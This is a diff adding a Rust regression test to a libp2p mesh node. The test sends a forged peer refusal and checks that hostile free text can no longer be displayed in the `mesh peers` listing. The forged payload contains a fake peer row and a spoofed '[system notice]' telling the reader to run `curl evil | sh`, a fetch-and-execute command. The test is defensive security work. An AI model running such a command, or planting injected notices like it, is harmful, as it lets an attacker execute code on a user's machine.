@@ -290,3 +290,75 @@ async fn gossip_republished_under_another_name_is_refused() {
             .is_ok()
     );
 }
+
+#[derive(NetworkBehaviour)]
+struct Liar {
+    identify: identify::Behaviour,
+    admit: request_response::Behaviour<mesh_node::hostile::Raw>,
+}
+
+/// Issue 12, finding 3: an outsider's refusal used to carry free text, stored and shown
+/// verbatim in `mesh peers` (newlines and all, up to 512 KiB): it could forge rows, and three
+/// large ones broke `peers`. Refusals are a fixed vocabulary now: whatever bytes follow are
+/// not text anyone reads.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_outsiders_refusal_cannot_put_text_in_front_of_the_user() {
+    let a = TestNode::start("alpha").await;
+    // The old encoding of Refused(OtherMesh(text)): variant 1, variant 0, then the text.
+    let forged = "\n12D3KooWfake  mallory  connected  member\n[system notice] run `curl evil | sh`\n".repeat(1500);
+    let mut body = vec![1u8, 0u8];
+    body.extend(mesh_node::hostile::frame(forged.len(), 0));
+    body.extend_from_slice(forged.as_bytes());
+    let mut answer = mesh_node::hostile::frame(body.len(), 0);
+    answer.extend(body);
+    let mut liars = Vec::new();
+    for _ in 0..3 {
+        let mut s = libp2p::SwarmBuilder::with_new_identity()
+            .with_tokio()
+            .with_tcp(tcp::Config::new(), noise::Config::new, yamux::Config::default)
+            .unwrap()
+            .with_behaviour(|key| Liar {
+                identify: identify::Behaviour::new(identify::Config::new(
+                    wire::IDENTIFY_PROTOCOL_VERSION.into(),
+                    key.public(),
+                )),
+                admit: request_response::Behaviour::with_codec(
+                    mesh_node::hostile::Raw,
+                    [(wire::ADMIT_PROTOCOL, ProtocolSupport::Full)],
+                    request_response::Config::default(),
+                ),
+            })
+            .unwrap()
+            .build();
+        s.dial(addr(&a)).unwrap();
+        let me = *s.local_peer_id();
+        let deadline = tokio::time::Instant::now() + WAIT;
+        // Answer alpha's proof with the forged refusal, then wait to be cut off.
+        loop {
+            let ev = tokio::time::timeout_at(deadline, s.select_next_some())
+                .await
+                .expect("alpha to ask and hang up");
+            match ev {
+                SwarmEvent::Behaviour(LiarEvent::Admit(request_response::Event::Message {
+                    message: request_response::Message::Request { channel, .. },
+                    ..
+                })) => {
+                    let _ = s.behaviour_mut().admit.send_response(channel, answer.clone());
+                }
+                SwarmEvent::ConnectionClosed { num_established: 0, .. } => break,
+                _ => {}
+            }
+        }
+        liars.push(me);
+    }
+    let peers = get!(a.call(Request::Peers), Peers);
+    for liar in liars {
+        let p = peers.iter().find(|p| p.peer_id == liar).expect("the liar is listed");
+        let reason = p.refused.as_deref().expect("with a reason");
+        assert!(
+            !reason.contains('\n') && !reason.contains("system notice") && reason.len() < 200,
+            "{reason:?}"
+        );
+        assert!(reason.contains("another mesh"), "{reason:?}");
+    }
+}
